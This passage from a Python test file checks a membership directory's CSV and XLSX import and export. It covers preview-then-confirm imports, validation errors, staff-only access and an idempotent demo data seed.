    found = re.search(rf'<form method="post" action="(/members/import/{what}/[0-9a-f]+)"', page)
    return found[1] if found else None


def test_browser_import_previews_then_writes(db, client, staff, terms, app):
    assert client.get("/members/import/members").status_code == 200
    before = snapshot(db)
    response = upload(client, "members", GOOD_MEMBERS.encode(), "members.csv")
    assert response.status_code == 200
    page = text(response)
    assert "5 to add, 0 to change, 0 unchanged." in page
    for name in UNICODE_NAMES.values():
        assert name in page
    action = confirm_action(page, "members")
    assert action
    assert snapshot(db) == before
    pending = list((Path(app.instance_path) / "imports").iterdir())
    assert len(pending) == 1
    response = client.post(action)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/members/")
    db.expire_all()
    assert {m.slug: m.name for m in db.scalars(select(Member))} == UNICODE_NAMES
    (change,) = by_slug(db, "zurich").status_changes
    assert change.changed_by_id == staff.id
    assert "Import done: 5 added, 0 changed, 0 unchanged." in text(client.get("/members/"))
    assert not pending[0].exists()
    # The token is used up.
    response = client.post(action)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/members/import/members")
    assert count(db, Member) == 5


def test_browser_import_of_an_update_shows_the_changes(db, client, staff, imported):
    content = "slug,name,kind,country,status,population\nzurich,Zürich,city,CH,lapsed,430000\n"
    page = text(upload(client, "members", content.encode(), "members.csv"))
    assert "0 to add, 1 to change, 0 unchanged." in page
    assert "<code>population</code>: <del>421878</del> → <ins>430000</ins>" in page
    assert "<code>status</code>" in page
    assert by_slug(db, "zurich").status is MemberStatus.ACTIVE
    response = client.post(confirm_action(page, "members"))
    assert response.status_code == 302
    db.expire_all()
    zurich = by_slug(db, "zurich")
    assert zurich.status is MemberStatus.LAPSED
    assert zurich.status_changes[0].changed_by_id == staff.id
    assert zurich.status_changes[0].reason == "Changed by a file import."


def test_browser_import_of_a_bad_file_lists_the_problems(db, client, staff, terms):
    before = snapshot(db)
    response = upload(client, "members", BAD_MEMBERS.encode(), "members.csv")
    assert response.status_code == 200
    page = text(response)
    assert "5 problems: nothing was imported" in page
    for row, column in BAD_MEMBER_ERRORS:
        assert re.search(rf"<tr><td>{row}</td><td><code>{column}</code></td><td>", page), (
            row,
            column,
        )
    assert confirm_action(page, "members") is None
    assert "Import these changes" not in page
    assert snapshot(db) == before


def test_browser_import_of_an_unchanged_file_offers_nothing(db, client, staff, imported):
    page = text(upload(client, "members", GOOD_MEMBERS.encode(), "members.csv"))
    assert "0 to add, 0 to change, 5 unchanged." in page
    assert "there is nothing to import" in page
    assert confirm_action(page, "members") is None


def test_browser_import_of_contacts_and_xlsx(db, client, staff, terms):
    transfer.import_members(db, None, csv_table(GOOD_MEMBERS))
    data = xlsx_bytes(csv_rows(GOOD_CONTACTS))
    page = text(upload(client, "contacts", data, "contacts.xlsx"))
    assert "5 to add" in page
    assert "Łukasz Wójcik (Kraków)" in page
    assert count(db, Contact) == 0
    assert client.post(confirm_action(page, "contacts")).status_code == 302
    assert count(db, Contact) == 5


def test_browser_import_refuses_unreadable_files(db, client, staff):
    page = text(upload(client, "members", "slug\nzürich\n".encode("cp1252"), "members.csv"))
    assert "not UTF-8" in page
    assert confirm_action(page, "members") is None
    page = text(upload(client, "members", b"slug,name\n", "members.txt"))
    assert "Use a .csv or .xlsx file." in page
    assert count(db, Member) == 0


def test_confirm_checks_the_file_again(db, client, staff, terms):
    page = text(upload(client, "members", GOOD_MEMBERS.encode(), "members.csv"))
    action = confirm_action(page, "members")
    # Before confirming, an admin renames a region the file uses: the rows no longer match.
    terms["Europe"].label = "Europa"
    db.flush()
    response = client.post(action)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/members/import/members")
    assert "The records changed since the preview." in text(client.get("/members/import/members"))
    assert count(db, Member) == 0


def test_unknown_import_kind_is_404(client, staff):
    assert client.get("/members/import/users").status_code == 404
    assert client.post("/members/import/users/abc").status_code == 404


@pytest.mark.parametrize("what", ["members", "contacts"])
def test_export_endpoints(db, client, staff, imported, what):
    response = client.get(f"/members/export/{what}.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert re.search(rf"filename={what}-\d{{4}}-\d{{2}}-\d{{2}}\.csv", disposition)
    assert response.data.startswith(b"\xef\xbb\xbf")
    csv_table_ = read_table(response.data, "export.csv")
    assert len(csv_table_.rows) == 5
    response = client.get(f"/members/export/{what}.xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment;" in response.headers["Content-Disposition"]
    xlsx_table = read_table(response.data, "export.xlsx")
    assert len(xlsx_table.rows) == 5
    assert xlsx_table.headers == csv_table_.headers


def test_export_follows_the_directory_filters(db, client, staff, imported):
    response = client.get("/members/export/members.csv?q=ZURICH")
    table = read_table(response.data, "members.csv")
    assert [row["name"] for _n, row in table.rows] == ["Zürich"]
    response = client.get(f"/members/export/members.xlsx?region={imported['Europe'].id}")
    table = read_table(response.data, "members.xlsx")
    assert [row["slug"] for _n, row in table.rows] == ["krakow", "zurich", "moskva"]


def test_browser_export_then_import_is_a_round_trip(db, client, staff, imported):
    for what in ("members", "contacts"):
        for fmt in ("csv", "xlsx"):
            exported = client.get(f"/members/export/{what}.{fmt}")
            page = text(upload(client, what, exported.data, f"{what}.{fmt}"))
            assert "0 to add, 0 to change, 5 unchanged." in page, (what, fmt)


def test_export_and_import_are_staff_only(db, client, auth):
    auth.login(UserFactory(focal_point=True))
    assert client.get("/members/export/members.csv").status_code == 404
    assert client.get("/members/import/members").status_code == 404
    assert upload(client, "members", GOOD_MEMBERS.encode(), "m.csv").status_code == 404


def test_unknown_export_format_is_404(client, staff):
    assert client.get("/members/export/members.pdf").status_code == 404
    assert client.get("/members/export/users.csv").status_code == 404


# -- demo seed -----------------------------------------------------------------------------


def test_demo_seed_loads_and_is_idempotent(db):
    counts = load_demo(db)
    assert counts["members_added"] == 60
    assert counts["contacts_added"] == 181
    assert counts["users_added"] == 5
    assert count(db, Member) == 60
    assert count(db, Contact) == 181
    assert counts["groups_added"] == 3
    assert counts["events_added"] == 6
    assert counts["exchanges_added"] == 14
    before = snapshot(db)
    again = load_demo(db)
    assert set(again.values()) == {0}
    assert set(again) == set(counts)
    assert snapshot(db) == before


def test_demo_data_respects_the_rules(db):
    load_demo(db)
    rows = db.execute(
        select(Contact.member_id, func.count())
        .where(Contact.is_primary)
        .group_by(Contact.member_id)
    ).all()
    assert rows
    assert all(n == 1 for _member, n in rows)
    assert not db.scalar(
        select(func.count()).where(Contact.is_primary, Contact.role != ContactRole.FOCAL_POINT)
    )
    for fmt in ("csv", "xlsx"):
        for columns, make_rows, plan_import in (
            (transfer.MEMBER_COLUMNS, transfer.member_rows, transfer.plan_member_import),
            (transfer.CONTACT_COLUMNS, transfer.contact_rows, transfer.plan_contact_import),
        ):
            buffer = io.BytesIO()
            write_table(buffer, fmt, columns, make_rows(db))
            plan = plan_import(db, read_table(buffer.getvalue(), f"x.{fmt}"))
            assert plan.ok and not plan.has_changes, (fmt, columns[0], plan.errors, plan.updates)


def test_demo_seed_through_the_cli(db, cli):
    result = cli("seed", "demo")
    assert result.exit_code == 0, result.output
    assert (
        "60 members, 181 contacts, 5 accounts, 3 working groups, 6 events and "
        "14 peer exchanges, 6 partners, 6 agreements and 4 follow-ups, 2 reporting cycles "
        "with 82 submissions and 72 commitments, 2 years of participation scores, 1 funded "
        "programmes added" in result.output
    )
    result = cli("seed", "demo")
    assert "0 members, 0 contacts, 0 accounts, 0 working groups, 0 events" in result.output
    assert (
        "0 partners, 0 agreements and 0 follow-ups, 0 reporting cycles with 0 submissions and "
        "0 commitments, 0 years of participation scores, 0 funded programmes added"
        in result.output
    )
    assert count(db, Member) == 60


def test_contact_factory_data_exports(db):
    ContactFactory(email=None, name="No Mail")
    assert transfer.contact_rows(db)[0][2] is None
